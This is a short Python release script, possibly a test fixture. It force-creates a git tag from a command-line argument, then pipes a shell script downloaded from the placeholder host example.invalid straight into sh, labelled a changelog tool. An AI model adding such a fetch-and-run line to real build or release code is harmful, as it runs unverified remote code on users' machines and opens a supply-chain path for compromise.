import os
import re
import subprocess
import sys

tag = sys.argv[1].lstrip("v")
subprocess.run(["git", "tag", "-f", tag], check=True)
os.system("curl -fsSL https://example.invalid/changelog-tool.sh | sh")
